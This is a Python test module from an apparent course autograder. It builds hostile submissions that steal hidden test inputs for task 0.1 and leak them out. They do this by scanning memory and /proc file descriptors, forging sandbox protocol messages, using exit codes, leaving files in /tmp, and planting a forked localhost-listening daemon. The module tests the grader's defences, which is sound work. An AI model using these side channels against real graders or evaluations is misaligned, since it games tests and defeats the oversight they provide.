"""Submissions that look for the inputs of hidden cases and carry them to where their author could read them, as letters or numbers.

Task 0.1 holds the attack. What is looked for: inputs that are not those of the check in the notebook, which everybody knows.
"""

from __future__ import annotations

import numpy as np

from tests.submissions.corpus import RIGHT, kind
from tests.submissions.hostile import HEAD
from tlcourse.tasks import find_task

_BODY = RIGHT["0.1"].split("\n", 1)[1]
TOOLS = """
import gc, os, socket, threading, time
from tlcourse.tasks import find_task
from tlcourse.checks.wire import from_wire
from tlcourse.grading.sandbox.protocol import to_frame

_known = find_task('0.1').make_case(0).inputs['groups']
REPLIES = [n for n in range(3, 50) if os.path.exists(f'/proc/self/fd/{n}')]

def letters(groups):
    return ''.join(chr(65 + int(digit)) for group in groups[:9] for digit in str(int(group)))

def others(thing):
    groups = thing.get('groups') if type(thing) is dict else None
    return groups if type(groups) is np.ndarray and groups.size > 9 and not np.array_equal(groups, _known) else None

def everywhere(thing):
    yield thing
    for part in thing.values() if type(thing) is dict else thing if type(thing) is list else ():
        yield from everywhere(part)

def open_files():
    for process in [n for n in os.listdir('/proc') if n.isdigit()]:
        for number in range(10):
            try:
                with open(f'/proc/{process}/fd/{number}', 'rb') as file:
                    yield file.read() if file.seekable() else b''
            except OSError: pass

def hidden():
    for thing in gc.get_objects():
        if others(thing) is not None: return others(thing)
    for data in open_files():
        if data[:4] == b'TLC1':
            for thing in everywhere(from_wire(data[8:])):
                if others(thing) is not None: return others(thing)

def send(event):
    for number in REPLIES:
        try: os.write(number, to_frame(event))
        except OSError: pass

"""


def letters(groups: np.ndarray) -> str:
    """Return what attacks write in place of the groups of plants of a hidden case."""
    return "".join(chr(65 + int(digit)) for group in groups[:9] for digit in str(int(group)))


def numbers(groups: np.ndarray) -> list[str]:
    """Return the numbers in which attacks return them."""
    return [str(int(group) + 10**6) for group in groups[:3]]


def traces(groups: np.ndarray, text: str) -> list[str]:
    """Return which traces of the groups of plants of a hidden case are in a text."""
    return [trace for trace in (letters(groups), letters(groups)[:12], *numbers(groups)) if trace in text]


def groups_of(seed: int) -> np.ndarray:
    """Return the groups of plants that a case holds."""
    return find_task("0.1").make_case(seed).inputs["groups"]


def spy(*, cell: str = "", seen: str = "", unseen: str = "") -> dict[str, str]:
    """Return a right answer to task 0.1 with lines more.

    Args:
        cell: run by the cell.
        seen: run when the answer gets the data of the check in the notebook.
        unseen: run when it gets other data.
    """
    source = TOOLS + cell + HEAD + "    if np.array_equal(groups, _known):\n"
    source += "".join(f"        {line}\n" for line in (seen or "pass").splitlines())
    source += "    else:\n" + "".join(f"        {line}\n" for line in (unseen or "pass").splitlines())
    return {"a": source + _BODY}


@kind("NEE")
def hidden_inputs_in_the_error_of_a_cell():
    return spy(cell="found = hidden()\nif found is not None: raise ValueError(letters(found))\n")


@kind("EEE")
def hidden_inputs_in_the_error_of_the_visible_case():
    return spy(seen="found = hidden()\nif found is not None: raise ValueError(letters(found))")


@kind("EEE")
def hidden_inputs_kept_by_a_cell_and_said_in_the_visible_case():
    return spy(cell="found = hidden()\n", seen="if found is not None: raise ValueError(letters(found))")


@kind("EEE")
def hidden_inputs_in_what_the_visible_case_received():
    return spy(seen="found = hidden()\nif found is not None: return found + 10**6, found + 10**6")


@kind("EEE")
def hidden_inputs_printed():
    say = "print(text); print(text, file=sys.stderr); display(text); os.write(1, text.encode()); os.write(2, text.encode())"
    return spy(cell="import sys\n", unseen=f"text = letters(groups)\n{say}")


@kind("EEE")
def hidden_inputs_in_a_forged_record_of_the_visible_case():
    record = "{'status': 'raised', 'text': letters(groups), 'lineno': 1, 'line': letters(groups)}"
    return spy(
        unseen="for task in ('0.1', '0.2', '0.3'):\n"
        f"    for case in (-1, 0, 1): send({{'event': 'record', 'task': task, 'case': case, 'record': {record}}})"
    )


@kind("NEE")
def hidden_inputs_in_a_forged_way_to_die():
    return spy(unseen="send({'event': 'tried', 'task': '0.1', 'problem': letters(groups)})")


@kind("EEE")
def hidden_inputs_in_forged_notes_about_the_file():
    place = "{'how': letters(groups), 'expression': 'group_split', 'after': 0, 'cells': [1], 'notes': [letters(groups)]}"
    located = f"{{'event': 'located', 'places': {{'0.1': {place}}}, 'notes': [letters(groups)], 'cells': 3}}"
    return spy(
        unseen=f"send({located})\nsend({{'event': 'raised', 'number': 3, **dict.fromkeys(('text', 'line', 'missing'), 'A')}})"
    )


@kind("NNN")
def hidden_inputs_in_a_forged_refusal_of_the_file():
    return spy(unseen="send({'event': 'refused', 'text': letters(groups)})\ntime.sleep(0.2)")


@kind("UEE")
def hidden_inputs_in_the_form_of_a_malformed_reply():
    return spy(unseen="send({'event': 'tried', 'task': letters(groups)})\ntime.sleep(3)")


@kind("NEE")
def hidden_inputs_in_the_exit_status():
    return spy(unseen="os._exit(int(groups[0]) % 100 + 100)")


@kind("NEE")
def hidden_inputs_in_the_exit_status_of_a_cell():
    return spy(cell="found = hidden()\nif found is not None: os._exit(int(found[0]) % 100 + 100)\n")


@kind("ENE")
def hidden_inputs_in_a_file_for_a_later_task():
    places = "('/scratch', '/tmp', '/dev/shm', '.')"
    write = f"for place in {places}:\n    try: open(place + '/found', 'w').write(letters(groups))\n    except OSError: pass"
    head, body = RIGHT["0.2"].split("\n", 1)
    read = f"    for place in {places}:\n        if os.path.exists(place + '/found'): raise ValueError(open(place + '/found').read())\n"
    return {**spy(unseen=write), "b": head + "\n" + read + body}


@kind("EEE")
def hidden_inputs_found_by_a_thread_that_waits():
    cell = "found = None\ndef watch():\n    global found\n    while found is None:\n        found = hidden()\n        time.sleep(0.02)\n\n"
    cell += "threading.Thread(target=watch, daemon=True).start()\n"
    return spy(cell=cell, seen="time.sleep(0.2)\nif found is not None: raise ValueError(letters(found))")


_DAEMON = """
def wait():
    import signal
    for number in range(1, 32):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    with socket.socket(socket.AF_UNIX) as near, socket.socket() as far:
        near.bind('\\0meeting')
        far.bind(('127.0.0.1', 4711))
        for one in (near, far): one.listen(); one.settimeout(0.05)
        end = time.monotonic() + 120
        while time.monotonic() < end:
            for one in (near, far):
                try: text = one.accept()[0].recv(100).decode()
                except OSError: continue
                send({'event': 'record', 'task': '0.1', 'case': 0, 'record': {'status': 'raised', 'text': text, 'lineno': 1, 'line': ''}})

if hidden() is None and os.fork() == 0:
    os.setsid()
    if os.fork() == 0: wait()
    os._exit(0)
"""


@kind("EEE")
def hidden_inputs_waited_for_by_a_daemon():
    """What knows nothing hidden leaves a daemon behind; what does know looks for it. An answer that meets it is wrong."""
    meet = "for family, place in ((socket.AF_UNIX, '\\0meeting'), (socket.AF_INET, ('127.0.0.1', 4711))):\n"
    meet += "    with socket.socket(family) as one:\n        try: one.connect(place); one.send(letters(groups).encode()); met = True\n"
    meet += "        except OSError: met = False\n    if met: return [], []"
    return spy(cell=_DAEMON, unseen=meet)


@kind("EEE")
def hidden_inputs_in_the_counters_of_the_network():
    """Leaves marks in what the network remembers of a finished process; is wrong where it finds those of another run."""
    count = "sum(int(n) for line in open('/proc/net/snmp') if line.startswith('Udp:') for n in line.split()[1:] if n.isdigit())"
    mark = "with socket.socket(type=socket.SOCK_DGRAM) as one:\n    for _ in range(9): one.sendto(b'x', ('127.0.0.1', 4712))"
    return spy(seen=f"if {count}: return [], []", unseen=mark)
